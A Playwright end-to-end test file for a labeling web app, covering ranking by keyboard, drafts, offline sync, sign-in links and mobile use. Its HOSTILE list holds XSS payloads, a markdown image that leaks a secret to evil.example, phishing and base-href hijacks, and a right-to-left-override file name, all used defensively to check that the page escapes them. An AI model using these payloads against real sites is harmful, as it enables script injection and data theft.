"""What a labeler does at the labeling page, in Chromium against a real server."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from accounts.models import Project, User
from labeling.models import Demonstration, RankedItem, Ranking, Skip
from tests.e2e.browser import Visit, Visitors, skip_browser
from tests.labeling.factories import PromptFactory, demonstration_batch, ranking_batch

pytestmark = [pytest.mark.browser, pytest.mark.slow, skip_browser]

expect.set_options(timeout=15_000)

TEXTS = ["Boil it for *four* minutes.", "Five minutes.", "1. Boil water\n2. Wait", "I do not know."]
HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>\n\n![leak](https://evil.example/p.png?q=secret)",
    "[bank](https://evil.example/login) [x](javascript:alert(1)) <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://evil.example/s)}</style><base href='//evil.example'>pay\u202etxt.exe",
    "<svg onload=alert(1)><math><mtext><img src=x onerror=alert(1)>" + "long" * 25_000,
    "> " * 10_000 + "deep",
]


@pytest.fixture
def window(people: Visitors, ana: User, project: Project) -> Visitors:
    """A browser, and somebody who may label."""
    return people


def at_work(window: Visitors, ana: User, project: Project) -> Visit:
    """Ana at the labeling page with a task before her."""
    visit = window.visit()
    visit.sign_in(ana)
    visit.open(f"/p/{project.pk}/label")
    visit.page.locator(".task").wait_for()
    return visit


def ranks(ranking: Ranking) -> str:
    """Ranks by the letters that the labeler saw: "1223"."""
    of = dict(RankedItem.objects.filter(ranking=ranking).values_list("candidate_id", "rank"))
    return "".join(
        str(rank) for _, rank in sorted((ranking.display_order.index(str(c)), r) for c, r in of.items())
    )


def test_nine_keys_rank_four_answers_with_a_tie(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, texts=TEXTS)
    visit = at_work(window, ana, project)
    visit.press("a Enter c Enter b = d Enter")
    expect(visit.page.get_by_role("listitem", name="Rank 2: C, B")).to_be_visible()
    visit.press("Control+Enter")
    expect(visit.page.get_by_text("Submitted")).to_be_visible()
    assert ranks(Ranking.objects.get(labeler=ana)) == "1223"
    assert visit.wrongs == []


def test_an_answer_counts_at_once_beside_the_next_task(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, tasks=2, texts=TEXTS[:2])
    visit = at_work(window, ana, project)
    for number in range(2):
        expect(visit.page.get_by_text(f"{number} by you")).to_be_visible()
        visit.press("a Enter b Enter Control+Enter")
    expect(visit.page.get_by_text("Submitted").first).to_be_visible()


def test_what_is_missing_is_named_and_focused(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, texts=TEXTS)
    visit = at_work(window, ana, project)
    visit.press("a Enter c Enter Control+Enter")
    expect(visit.page.get_by_text("Still to rank: B, D.")).to_be_visible()
    expect(visit.page.get_by_role("article", name="Answer B")).to_be_focused()
    visit.press("?")
    expect(visit.page.get_by_text("While you type only Esc")).to_be_in_viewport(ratio=1)
    assert not Ranking.objects.exists()


def test_keys_do_nothing_to_the_board_while_a_note_is_written(
    window: Visitors, ana: User, project: Project
) -> None:
    ranking_batch(project, texts=TEXTS)
    visit = at_work(window, ana, project)
    visit.press("n")
    visit.page.keyboard.type("a=bad, see 3")
    expect(visit.page.get_by_label("Note")).to_have_value("a=bad, see 3")
    visit.press("Escape a 6 Enter")
    expect(visit.page.get_by_role("listitem", name="Rank 1: A")).to_be_visible()
    visit.press("b Enter c Enter d Enter Control+Enter")
    expect(visit.page.get_by_text("Submitted")).to_be_visible()
    ranking = Ranking.objects.get()
    assert ranking.note == "a=bad, see 3"
    assert list(ranking.items.filter(likert__isnull=False).values_list("likert", flat=True)) == [6]


def test_a_draft_is_found_again_on_another_computer(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, texts=TEXTS)
    visit = at_work(window, ana, project)
    visit.press("b Enter d = 5")
    expect(visit.page.get_by_text(re.compile(r"^saved \d\d:\d\d:\d\d$"))).to_be_visible()
    other = at_work(window, ana, project)
    expect(other.page.get_by_role("listitem", name="Rank 1: B, D")).to_be_visible()
    expect(
        other.page.get_by_role("group", name="Quality of D").get_by_role("button", name="5 of 7")
    ).to_have_attribute("aria-pressed", "true")


def test_a_draft_survives_a_tab_closed_at_once_without_network(
    window: Visitors, ana: User, project: Project
) -> None:
    demonstration_batch(project)
    visit = at_work(window, ana, project)
    visit.context.set_offline(True)
    visit.page.get_by_label("Your answer").fill("Dear aunt,")
    expect(visit.page.get_by_text("offline, kept here")).to_be_visible()
    visit.page.close()
    visit.context.set_offline(False)
    page = visit.context.new_page()
    page.goto(f"{visit.address}/p/{project.pk}/label")
    expect(page.get_by_label("Your answer")).to_have_value("Dear aunt,")


def test_a_second_tab_does_not_overwrite_the_first(window: Visitors, ana: User, project: Project) -> None:
    demonstration_batch(project)
    first = at_work(window, ana, project)
    second = first.context.new_page()
    second.goto(f"{first.address}/p/{project.pk}/label")
    second.get_by_label("Your answer").wait_for()
    first.page.get_by_label("Your answer").fill("from the first tab")
    expect(first.page.get_by_text(re.compile("^saved "))).to_be_visible()
    second.get_by_label("Your answer").fill("from the second tab")
    expect(second.get_by_text("Another version of your draft was saved")).to_be_visible()
    second.get_by_role("button", name="Use that one").click()
    expect(second.get_by_label("Your answer")).to_have_value("from the first tab")
    second.get_by_role("button", name="Use that one").click()
    expect(second.get_by_label("Your answer")).to_have_value("from the second tab")


def test_a_demonstration_is_written_and_corrected(window: Visitors, ana: User, project: Project) -> None:
    demonstration_batch(project)
    visit = at_work(window, ana, project)
    visit.page.keyboard.type("**Dear** aunt, all is well.")
    expect(visit.page.locator(".preview strong")).to_have_text("Dear")
    visit.press("Control+Enter")
    visit.page.get_by_role("button", name="Correct it").click()
    visit.page.get_by_label("Your answer").fill("Dear aunt, we are well.")
    visit.press("Control+Enter")
    expect(visit.page.get_by_text("Correction submitted")).to_be_visible()
    found = Demonstration.objects.order_by("revision").values_list("revision", "text", "is_latest")
    assert list(found) == [(1, "**Dear** aunt, all is well.", False), (2, "Dear aunt, we are well.", True)]
    assert visit.wrongs == []


def test_an_answer_given_offline_is_sent_when_the_network_returns(
    window: Visitors, ana: User, project: Project
) -> None:
    ranking_batch(project, texts=TEXTS[:2], tasks=2)
    visit = at_work(window, ana, project)
    visit.page.wait_for_load_state("networkidle")
    visit.context.set_offline(True)
    visit.press("a Enter b Enter Control+Enter")
    expect(visit.page.get_by_text("1 answer waits to be sent")).to_be_visible()
    assert not Ranking.objects.exists()
    visit.context.set_offline(False)
    expect(visit.page.get_by_text("Submitted")).to_be_visible()
    assert Ranking.objects.count() == 1


def test_a_task_is_skipped_with_a_reason_by_two_keys(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, texts=TEXTS)
    visit = at_work(window, ana, project)
    visit.press("s")
    expect(visit.page.get_by_role("dialog")).to_be_visible()
    visit.press("2")
    expect(visit.page.get_by_role("heading", name="You have answered all there is")).to_be_visible()
    assert Skip.objects.get().reason == "expertise"


def test_cards_are_dragged_into_an_order(window: Visitors, ana: User, project: Project) -> None:
    ranking_batch(project, texts=TEXTS[:2])
    visit = at_work(window, ana, project)
    for place, letter in enumerate("BA", start=1):
        handle = visit.page.get_by_role("article", name=f"Answer {letter}").get_by_title("Drag")
        source = handle.bounding_box()
        target = visit.page.locator(".gap").last.bounding_box()
        assert source
        assert target
        visit.page.mouse.move(source["x"] + 10, source["y"] + 10)
        visit.page.mouse.down()
        visit.page.mouse.move(source["x"] + 40, source["y"] + 60, steps=4)
        visit.page.mouse.move(target["x"] + target["width"] / 2, target["y"] + target["height"] / 2, steps=6)
        visit.page.mouse.up()
        # The page has settled before the next card is taken, as under a hand.
        expect(visit.page.get_by_role("listitem", name=f"Rank {place}: {letter}")).to_be_visible()


def test_hostile_texts_run_nothing_and_fetch_nothing(window: Visitors, ana: User, project: Project) -> None:
    batch = ranking_batch(project, texts=HOSTILE)
    batch.tasks.get().prompt.__class__.objects.filter(project=project).update(
        messages=[{"role": "system", "content": HOSTILE[0]}, {"role": "user", "content": HOSTILE[1]}]
    )
    Project.objects.filter(pk=project.pk).update(guidelines=HOSTILE[2], name="<img src=x onerror=alert(1)>")
    User.objects.filter(pk=ana.pk).update(display_name="<svg onload=alert(1)>")
    visit = at_work(window, ana, project)
    page = visit.page
    expect(page.locator(".card")).to_have_count(len(HOSTILE))
    page.locator("summary").click()
    visit.press("r r")
    expect(page.get_by_text("U+202E").first).to_be_attached()
    expect(page.locator(".card-body").get_by_text("https://evil.example/p.png?q=secret")).to_be_attached()
    page.locator(".card-body a", has_text="bank").hover()
    expect(page.locator(".card-body a", has_text="bank")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    visit.press("u")
    expect(page.get_by_role("dialog").get_by_text("<base href=")).to_be_visible()
    visit.press("Escape")
    visit.press("n")
    page.keyboard.type("</textarea><script>alert(1)</script>")
    visit.press("Escape a Enter b Enter c Enter d Enter e Enter Control+Enter")
    expect(page.get_by_text("Submitted")).to_be_visible()
    visit.open(f"/p/{project.pk}/my-work")
    page.get_by_role("link", name="Correct").click()
    expect(page.get_by_role("textbox", name="Note")).to_have_value("</textarea><script>alert(1)</script>")
    assert visit.wrongs == []


def test_signing_out_leaves_nothing_of_a_person_on_the_computer(
    window: Visitors, ana: User, project: Project
) -> None:
    demonstration_batch(project)
    visit = at_work(window, ana, project)
    visit.page.get_by_label("Your answer").fill("secret thoughts")
    visit.page.get_by_role("button", name="Account").click()
    visit.page.get_by_role("menuitem", name="Sign out").click()
    visit.page.wait_for_url("**/sign-in")
    assert "secret thoughts" not in str(visit.context.storage_state())
    again = at_work(window, ana, project)
    expect(again.page.get_by_label("Your answer")).to_have_value("secret thoughts")


def test_a_used_link_says_so_and_how_to_get_another(window: Visitors, ana: User) -> None:
    from accounts.services import make_sign_in_link

    _, secret = make_sign_in_link(user=ana)
    for words in ("Signed in as Ana", "This link was used already."):
        visit = window.visit()
        visit.open(f"/sign-in#{secret}")
        expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()
        assert secret not in visit.page.url
        visit.page.get_by_role("button", name="Sign in").click()
        if words.startswith("This"):
            expect(visit.page.get_by_text(words)).to_be_visible()
            expect(visit.page.get_by_text("ask an admin")).to_be_visible()
        else:
            visit.page.wait_for_url(f"{visit.address}/")


def test_a_phone_whose_language_is_chinese_ranks_by_touch(
    window: Visitors, ana: User, project: Project
) -> None:
    PromptFactory(project=project)
    ranking_batch(project, texts=TEXTS[:2])
    visit = window.visit(language="zh-CN", width=390, height=844)
    from accounts.services import make_sign_in_link

    _, secret = make_sign_in_link(user=ana)
    visit.open(f"/sign-in#{secret}")
    visit.page.get_by_role("button", name="在这台电脑上登录").click()
    visit.page.wait_for_url(f"{visit.address}/")
    visit.open(f"/p/{project.pk}/label")
    visit.page.locator(".card").first.wait_for()
    visit.page.get_by_role("button", name="提交", exact=True).click()
    expect(visit.page.get_by_text("还未排序：A, B")).to_be_in_viewport(ratio=1)
    visit.press("?")
    expect(visit.page.get_by_text("输入文字时")).to_be_in_viewport(ratio=1)
    visit.press("Escape")
    visit.page.locator(".card").first.get_by_role("button", name="排到下一位").click()
    visit.page.get_by_label("B 的名次").select_option(label="第 1 名，与 A 并列")
    visit.page.get_by_role("button", name="提交", exact=True).click()
    expect(visit.page.get_by_text("已提交")).to_be_visible()
    assert ranks(Ranking.objects.get()) == "11"
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert visit.wrongs == []
